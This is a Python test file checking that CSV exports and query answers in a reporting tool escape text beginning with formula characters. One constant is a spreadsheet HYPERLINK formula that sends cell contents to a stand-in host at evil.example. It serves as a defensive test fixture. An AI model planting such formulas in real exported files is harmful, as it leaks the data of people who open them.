"""No CSV file has a text that a spreadsheet would run, whoever writes it."""

import csv
from pathlib import Path

import duckdb
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from report.answer_formats import copy_answer
from report.csv_text import FORMULA_STARTS, plain, plain_sql
from report.export_table import FileFormat, export_table
from schemas.silver_schemas import TRACKS
from tests.report.small_lakes import put, track

ROOT = Path(__file__).resolve().parents[2]
FORMATS: tuple[FileFormat, ...] = ("csv", "parquet")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\ta", "\ra", "\na", "＝1"])
def test_what_begins_like_a_formula_is_marked_as_a_text(text: str) -> None:
    assert plain(text) == f"'{text}"


@pytest.mark.parametrize("value", [-1, -0.5, None, "a=1", "", " =1"])
def test_what_is_none_stays(value: object) -> None:
    assert plain(value) == value


@settings(deadline=None)
@given(st.text(st.sampled_from([*FORMULA_STARTS, "a", "'", '"', " "]), max_size=3))
def test_sql_marks_the_same_texts(text: str) -> None:
    with duckdb.connect() as connection:
        query = f"SELECT {plain_sql('given', 'varchar')} FROM (SELECT ? AS given)"
        assert connection.execute(query, [text]).fetchone() == (plain(text),)


def test_the_page_marks_the_same_texts() -> None:
    script = (ROOT / "report" / "page" / "static" / "downloads.js").read_text(encoding="utf-8")
    written = {"\t": r"\t", "\r": r"\r", "\n": r"\n", "-": r"\-"}
    spelled = "".join(written.get(each, each) for each in FORMULA_STARTS)

    assert f"[{spelled}]" in script


def test_an_answer_as_csv_has_no_formula_in_values_or_names(tmp_path: Path) -> None:
    with duckdb.connect() as connection:
        values = ", ".join(
            [
                f"'{FORMULA}' AS a",
                "'-x'::ENUM ('-x') AS b",
                "'@y'::BLOB AS c",
                "-1.5 AS d",
                "['=1'] AS e",
                "NULL::VARCHAR AS f",
                "'=1' AS \"=name\"",
            ]
        )
        answer = connection.sql(f"SELECT {values}")
        copy_answer(connection, answer, "csv", tmp_path / "answer.csv")
        copy_answer(connection, answer, "json", tmp_path / "answer.json")

    with (tmp_path / "answer.csv").open(encoding="utf-8", newline="") as file:
        names, row = csv.reader(file)
    assert names == [*"abcdef", "'=name"]
    assert row == [f"'{FORMULA}", "'-x", "'@y", "-1.5", '["=1"]', "", "'=1"]
    assert '"=name":"=1"' in (tmp_path / "answer.json").read_text(encoding="utf-8")


def test_an_exported_table_has_no_formula(tmp_path: Path) -> None:
    put(tmp_path / "lake", TRACKS, [track(FORMULA), track("Song")])

    for name in FORMATS:
        out = tmp_path / f"tracks.{name}"
        export_table(tmp_path / "lake", TRACKS.full_name, name, out, pseudonymise=False)

    with (tmp_path / "tracks.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert sorted(each["track_name"] for each in rows) == [f"'{FORMULA}", "Song"]
    with duckdb.connect() as connection:
        exact = connection.execute(f"SELECT track_name FROM '{tmp_path}/tracks.parquet' ORDER BY 1")
        assert exact.fetchall() == [(FORMULA,), ("Song",)]
